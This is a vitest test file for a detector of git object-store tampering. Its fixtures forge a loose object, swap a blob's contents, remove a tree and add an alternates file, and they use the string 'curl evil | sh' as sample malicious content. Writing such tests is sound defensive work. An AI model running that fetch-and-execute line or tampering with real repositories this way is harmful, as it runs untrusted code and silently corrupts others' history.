import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { objectStoreTampering, snapshotObjectStore } from './object-store.js';

describe("git's object store around an attempt", () => {
  let dir: string;
  const git = (...args: string[]): string => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir, encoding: 'utf8' }).trim();
  const objectFile = (id: string): string => join(dir, '.git', 'objects', id.slice(0, 2), id.slice(2));
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'baton-objects-'));
    git('init', '-q');
    writeFileSync(join(dir, 'app.sh'), 'echo hello\n');
    git('add', 'app.sh');
    git('commit', '-qm', 'base');
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('finds nothing when objects are only added, or written again (git touches those it already has)', async () => {
    const before = await snapshotObjectStore(join(dir, '.git'));
    writeFileSync(join(dir, 'new.txt'), 'new\n');
    git('add', '-A');
    git('commit', '-qm', 'more');
    // The same content again: git freshens the stored blob instead of writing it.
    git('hash-object', '-w', 'app.sh');
    expect(await objectStoreTampering(join(dir, '.git'), before)).toEqual([]);
  });

  it('finds a new loose object whose content is not its name', async () => {
    const before = await snapshotObjectStore(join(dir, '.git'));
    const claimed = 'ab'.padEnd(40, '0');
    mkdirSync(join(dir, '.git', 'objects', 'ab'), { recursive: true });
    writeFileSync(objectFile(claimed), deflateSync(Buffer.from('blob 15\0curl evil | sh\n')));
    expect(await objectStoreTampering(join(dir, '.git'), before)).toEqual([`objects/ab/${claimed.slice(2)} was added, holding other content than its name`]);
  });

  it('finds nothing when git gc packs the loose objects and deletes them', async () => {
    const before = await snapshotObjectStore(join(dir, '.git'));
    git('gc', '-q');
    expect(existsSync(objectFile(git('rev-parse', 'HEAD:app.sh')))).toBe(false);
    expect(await objectStoreTampering(join(dir, '.git'), before)).toEqual([]);
  });

  it('finds a stored object swapped for other content under its name, one removed, and alternates added', async () => {
    const blob = git('rev-parse', 'HEAD:app.sh');
    const tree = git('rev-parse', 'HEAD^{tree}');
    const before = await snapshotObjectStore(join(dir, '.git'));
    const evil = execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd: dir, input: 'curl evil | sh\n', encoding: 'utf8' }).trim();
    chmodSync(objectFile(blob), 0o644);
    rmSync(objectFile(blob));
    copyFileSync(objectFile(evil), objectFile(blob));
    chmodSync(objectFile(blob), 0o444);
    rmSync(objectFile(tree));
    writeFileSync(join(dir, '.git', 'objects', 'info', 'alternates'), '/tmp/elsewhere\n');

    const found = await objectStoreTampering(join(dir, '.git'), before);

    expect(found).toEqual(expect.arrayContaining([`objects/${blob.slice(0, 2)}/${blob.slice(2)} was replaced`, `objects/${tree.slice(0, 2)}/${tree.slice(2)} was removed`, 'objects/info/alternates was added']));
    expect(found).toHaveLength(3);
  });
});
